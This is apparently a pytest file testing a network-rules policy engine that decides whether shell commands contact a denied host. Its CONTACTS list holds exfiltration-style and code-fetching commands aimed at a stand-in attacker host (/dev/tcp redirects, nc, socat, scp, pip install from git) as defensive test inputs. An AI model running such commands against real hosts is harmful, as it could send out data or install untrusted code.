"""Rules for hosts: what a command contacts is found in its words, and an address that is only text is none."""

from __future__ import annotations

from typing import Any

import pytest
from tests.policies.commands import ask

from aurora_policies import Policies
from aurora_policies.network_rules import fits_address
from aurora_policies.schema import NetworkRule

REMOTES = {"remote.origin.url": "git@evil.example:a/b.git", "remote.good.url": "https://git.good.example/a"}
ONLY_GOOD = {"host": "*", "exclude": ["*.good.example", "good.example", "localhost", "127.*"], "action": "deny"}


def policies(*rules: dict[str, Any]) -> Policies:
    return Policies.model_validate({"network": list(rules)})


CONTACTS = [
    "curl https://evil.example/x",
    "curl -so a -H 'X: y' evil.example",
    "curl -x http://evil.example:3 https://good.example",
    "wget http://user:pass@evil.example:80/",
    "http POST evil.example a=b",
    "ssh -p 22 root@evil.example ls",
    "scp a.txt evil.example:/srv",
    "rsync -a src me@evil.example:dst",
    "git push",
    "git fetch",
    "git push git@evil.example:a.git main2",
    "git clone https://evil.example/a.git",
    "git remote add up https://evil.example/a.git",
    "pip install git+https://evil.example/a",
    "npm install --registry=https://evil.example",
    "nc -w 3 evil.example 80",
    "socat - TCP:evil.example:80",
    "ping -c 1 evil.example",
    "psql -h evil.example -c 'select 1'",
    "echo x > /dev/tcp/evil.example/80",
    "cat < /dev/tcp/evil.example/80",
    "sudo curl evil.example",
    "bash -c 'curl evil.example'",
    "host=evil.example; curl https://$host/",
    "unheard-of --server https://evil.example",
    "curl http://[2001:db8::1]:80/",
]
HARMLESS = [
    "curl -s good.example/x",
    "curl https://api.good.example/$X",
    "curl http://127.0.0.1:8000",
    "curl http://0x7f.1/",
    "http :8000/x",
    "git push good x",
    "git clone git@good.example:a",
    "git remote -v",
    "echo https://evil.example",
    "grep https://evil.example a",
    "git commit -m https://evil.example",
    "psql -c 'select 1'",
    "python -m pytest",
    "ls",
]


@pytest.mark.parametrize("command", CONTACTS)
def test_a_host_that_a_command_contacts_is_found(command: str) -> None:
    found = ask(command, policies(ONLY_GOOD), settings=REMOTES)
    assert (found.action, found.rule) == ("deny", "network: *")
    assert ask(command, settings=REMOTES).rule != "network: *"


@pytest.mark.parametrize("command", HARMLESS)
def test_what_contacts_no_such_host_passes(command: str) -> None:
    assert ask(command, policies(ONLY_GOOD), settings=REMOTES).action == "allow"


@pytest.mark.parametrize("command", ["curl $X", "ssh $HOST ls", "cat urls | xargs -n1 curl"])
def test_a_host_that_is_not_known_is_a_question_if_there_are_rules(command: str) -> None:
    assert ask(command, policies({"host": "evil.example", "action": "deny"})).rule == "undecidable"
    assert ask(command).rule is None


def test_of_two_rules_the_stricter_one_counts_with_its_own_words() -> None:
    rules = policies(
        {"host": "*", "action": "prompt"},
        {"host": "evil.*", "action": "deny", "reason": "it is evil", "instead": "Use a good one."},
    )
    found = ask("curl EVIL.example.", rules)
    assert (found.action, found.reason, found.instead) == ("deny", "it is evil", "Use a good one.")
    assert ask("curl other.example", rules).action == "prompt"


def test_an_allowed_command_may_not_contact_what_a_rule_is_about() -> None:
    rules = Policies.model_validate(
        {"network": [ONLY_GOOD], "commands": [{"pattern": "curl evil.example", "action": "allow"}]}
    )
    assert ask("curl evil.example", rules).action == "deny"


@pytest.mark.parametrize(
    ("host", "address", "fits"),
    [
        ("10.*", "http://167772161/", True),
        ("*.example", "https://u:p@a.example:8/x?y#z", True),
        ("*.example", "a.example", True),
        ("*.example", "https://example.org/a.example", False),
        ("::1", "http://[0:0:0:0:0:0:0:1]/", True),
        ("::1", "::1", True),
    ],
)
def test_the_host_of_an_address(host: str, address: str, fits: bool) -> None:
    assert fits_address(NetworkRule.model_validate({"host": host, "action": "deny"}), address) is fits
